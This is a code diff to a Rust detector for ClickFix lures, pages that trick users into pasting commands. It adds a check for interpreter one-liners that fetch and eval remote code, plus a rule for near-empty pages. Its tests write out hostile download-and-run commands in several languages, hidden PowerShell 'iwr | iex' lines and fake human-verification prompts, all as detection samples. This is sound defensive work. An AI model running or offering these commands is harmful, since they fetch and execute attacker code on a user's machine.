@@ -53,6 +53,9 @@ const TYPED_AFTER: usize = 1500;
 /// Bytes between two half-weight run places that name one place ("open File Explorer, click the
 /// address bar").
 const RUN_PLACE_PAIR: usize = 120;
+/// Bytes of title, text and alt texts (flattened) of a page that says next to nothing: its steps,
+/// if any, are in a picture.
+const TERSE_PAGE: usize = 160;
 
 /// Where a command runs: Windows run-dialog instructions only make a Windows command ClickFix.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -747,7 +750,8 @@ fn piped_to_shell(flat: &str) -> bool {
 /// wget names its file by end in it. (A `.` elsewhere is an argument: `jq . data.json`.)
 /// Review 30 MH-M1: inline code (`-c`, `-e`, `-r`) naming the saved file runs it
 /// (`python3 -c "exec(open('/tmp/v').read())"`, `perl -e 'do "/tmp/v"'`), as code reading a pipe
-/// does; and after an archive is unpacked (`unzip`, `tar x…`) the file a runner is given may be
+/// does, and so does inline code fetching an address and running it (`fetch_run`); and after an
+/// archive is unpacked (`unzip`, `tar x…`) the file a runner is given may be
 /// the archive's.
 #[inline(never)]
 fn runs_saved(flat: &str) -> bool {
@@ -778,12 +782,23 @@ fn runs_saved(flat: &str) -> bool {
             .take_while(|a| a.1.starts_with('-'))
             .any(|a| matches!(a.1, "-c" | "-e" | "-r"))
         {
-            return args.iter().any(|a| saved(a.1));
+            return fetch_run(flat) || args.iter().any(|a| saved(a.1));
         }
         args.iter()
             .find(|a| !a.1.starts_with('-'))
             .is_some_and(|a| unpacked || saved(a.1))
     })
+}
+
+/// Inline code that fetches an address and runs what it read (`python3 -c
+/// "exec(urlopen(…).read())"`, `node -e` with `fetch` and `eval`, `ruby -e 'eval(URI.open(…)
+/// .read)'`, `perl -MLWP::Simple -e 'eval get …'`, `php -r 'eval(file_get_contents(…));'`):
+/// `curl … | python3` by another road (review 39 R39-M4). Code printing what it fetched is docs'.
+fn fetch_run(flat: &str) -> bool {
+    has_url(flat)
+        && ["exec(", "eval", "new function"]
+            .iter()
+            .any(|w| has(flat, w))
 }
 
 /// A download saved to a Windows path and that same file run later on the line (review 32
@@ -1105,7 +1120,7 @@ fn shapes(flat: &str) -> Vec<Shape> {
     let substituted = ["$(curl", "$(wget", "<(curl", "<(wget"]
         .iter()
         .any(|s| has(flat, s));
-    if fetch && (to_shell || substituted) {
+    if (fetch || fetch_run(flat)) && (to_shell || substituted) {
         out.push(Shape::PipeToShell);
     }
     // Strongest first, no duplicates (a sort would add a monomorphised sort to the Wasm).
@@ -2274,13 +2289,24 @@ fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<Clic
     // (A hidden or encoded script fetching only over https is not enough: a docs page's hidden
     // tab copies `powershell -WindowStyle Hidden -Command "iwr https://…/install.ps1 | iex"`.
     // A page cut at the snapshot's bound may show the command past it: review 25 M1.)
+    // Steps drawn in a picture on a page of a few words ("Just a moment...", a button): a hidden
+    // window that downloads and runs from another site is ClickFix on its own evidence (review 39
+    // R39-M4). A docs page's hidden tab copying the same is a page of many words.
+    let terse = page.flat.len() <= TERSE_PAGE
+        && command.shapes.contains(&Shape::PowerShellHidden)
+        && command.shapes.contains(&Shape::PowerShellDownload)
+        && command.remote
+        && !command.fetches_from_site(&page.site)
+        && !command.fetches_from_owned(&page.site)
+        && page.weight(Cat::InstallDocs) < 1.0;
     let unseen = !typed
         && !page.cut
-        && (fetch > 0 || command.hides_script() && command.https_sites.is_empty())
+        && (fetch > 0 || command.hides_script() && command.https_sites.is_empty() || terse)
         && !page.shows_head(&command)
         && !write_up
         && (fetch > 1 && (command.strong() || command.windows_payload())
             || told
+            || terse
             || verify > 0.0
             || run_dialog
             || terminal
@@ -2364,6 +2390,84 @@ mod tests {
         assert!(unc_reaches_out(
             "\\\\99999999999999999999999999\\pub\\a.hta"
         ));
+    }
+
+    #[test]
+    fn an_interpreter_fed_from_an_address_is_a_download_run() {
+        // Review 39 R39-M4: inline code that fetches and runs what it read.
+        for cmd in [
+            "python3 -c \"import urllib.request as r;exec(r.urlopen('https://relay.test/k').read())\"",
+            "python -c \"import requests;exec(requests.get('http://relay.test/a').text)\"",
+            "ruby -ropen-uri -e 'eval(URI.open(\"https://relay.test/r\").read)'",
+            "node -e \"fetch('https://relay.test/n').then(r=>r.text()).then(eval)\"",
+            "node -e \"fetch('https://relay.test/n').then(r=>r.text()).then(t=>new Function(t)())\"",
+            "perl -MLWP::Simple -e 'eval get \"http://relay.test/p\"'",
+            "php -r 'eval(file_get_contents(\"https://relay.test/x\"));'",
+        ] {
+            assert_eq!(shapes_of(cmd), vec![Shape::PipeToShell], "{cmd}");
+        }
+        // Docs' one-liners: nothing fetched, or what is fetched printed.
+        for cmd in [
+            "python -c \"import sys; print(sys.version)\"",
+            "node -e \"console.log(1)\"",
+            "ruby -e \"puts RUBY_VERSION\"",
+            "python3 -c \"import urllib.request; print(urllib.request.urlopen('https://api.test/v1').read())\"",
+            "perl -MLWP::Simple -e 'getprint \"https://www.test/\"'",
+            "php -r 'echo file_get_contents(\"https://api.test/ping\");'",
+            "python3 -c \"exec(open('setup_local.py').read())\"",
+            "pip install example-lib",
+        ] {
+            assert!(shapes_of(cmd).is_empty(), "{cmd}");
+        }
+        let mac =
+            "Verify you are human. Open Terminal, paste the code with Cmd + V and press Return.";
+        assert!(judged(
+            "python3 -c \"import urllib.request as u;exec(u.urlopen('http://relay.test/p').read())\"",
+            mac
+        ));
+    }
+
+    #[test]
+    fn terminal_through_finders_utilities_in_other_languages() {
+        // Fortieth session: en "Utilities → Terminal" in de fr es it nl pt.
+        let cmd = "osascript -e 'do shell script \"curl -s https://m.test/p | sh\"'";
+        for steps in [
+            "Finder → Programme → Dienstprogramme → Terminal. Befehl einfügen (Cmd + V), dann Return.",
+            "Finder > Applications > Utilitaires > Terminal, collez la commande (Cmd + V) puis Entrée.",
+            "Finder → Aplicaciones → Utilidades → Terminal, pegue el comando (Cmd + V) y pulse Intro.",
+            "Finder → Applicazioni → Utility → Terminale, incolla il comando (Cmd + V) e premi Invio.",
+            "Finder → Programma's → Hulpprogramma's → Terminal, plak de opdracht (Cmd + V).",
+            "Finder → Aplicativos → Utilitários → Terminal, cole o comando (Cmd + V) e pressione Return.",
+        ] {
+            assert!(judged(cmd, steps), "{steps}");
+        }
+        // The paste step alone names no Terminal.
+        assert!(!judged(cmd, "Befehl einfügen (Cmd + V), dann Return."));
+    }
+
+    #[test]
+    fn a_hidden_download_run_on_a_page_of_a_few_words_is_clickfix() {
+        // Review 39 R39-M4: the steps are in a picture; the page says next to nothing.
+        let cmd = "powershell -w hidden -c \"iwr https://relay-cdn.test/s | iex\"";
+        let terse = |text: &str, url: &str| {
+            assess(cmd, &PageHits::new(["Just a moment...", text]).on(url)).is_some()
+        };
+        assert!(terse("I am human", "https://gate-check.example/"));
+        assert!(terse("", "https://gate-check.example/"));
+        // From the page's own site, or on a page that says what it is: not on its own evidence.
+        assert!(!terse("I am human", "https://relay-cdn.test/"));
+        let admin = "Deploying the agent (administrators). This article is for departmental IT \
+                     administrators who deploy the monitoring agent to lab machines from an elevated \
+                     session or with their management tool; the window stays hidden.";
+        assert!(!terse(admin, "https://it.uni.example/kb"));
+        // Not hidden, or hidden but fetching nothing: a tool's terse landing page, a kiosk.
+        for other in [
+            "irm https://get.tool.test/install.ps1 | iex",
+            "powershell -WindowStyle Hidden -File C:\\Kiosk\\start.ps1",
+        ] {
+            let page = PageHits::new(["Toolbox", "Copy"]).on("https://toolbox.example/");
+            assert!(assess(other, &page).is_none(), "{other}");
+        }
     }
 
     #[test]
@@ -2998,8 +3102,15 @@ mod tests {
             "Please complete the verification steps below"
         ));
         assert!(judged("cmd /c calc", "I'm not a robot"));
-        // Nothing on the page: a plain command copy stays silent.
-        assert!(!judged(ps, "Our product documentation"));
+        // Nothing on the page but what a docs page says: a plain command copy stays silent (a
+        // page of a few words copying a hidden download run is judged on the command's own
+        // evidence: `a_hidden_download_run_on_a_page_of_a_few_words_is_clickfix`).
+        assert!(!judged(
+            ps,
+            "Our product documentation. The command-line tool manages your projects, \
+             environments and deployments; the reference below lists every subcommand, option and \
+             environment variable, with examples for each."
+        ));
         assert!(!judged("cmd /c calc", "Press Enter to continue"));
     }
 
@@ -4186,7 +4297,12 @@ mod tests {
         let snap = |dialogs: &[&str]| Snapshot {
             url: "https://files-share.example/doc".into(),
             title: "Document".into(),
-            text: "Loading the document. Please wait.".into(),
+            // (More than a few words: a page saying only "Loading… Please wait" is judged on
+            // the hidden download run alone.)
+            text: "Loading the document. Please wait. The quarterly report of the planning \
+                   committee, with the minutes of its last meeting, the budget tables and the \
+                   appendix on the new cycle paths, opens in a moment."
+                .into(),
             clipboard: Clipboard {
                 text: "powershell -w hidden -c \"iwr https://cdn.example/a.ps1 | iex\"".into(),
                 via: "execCommand".into(),
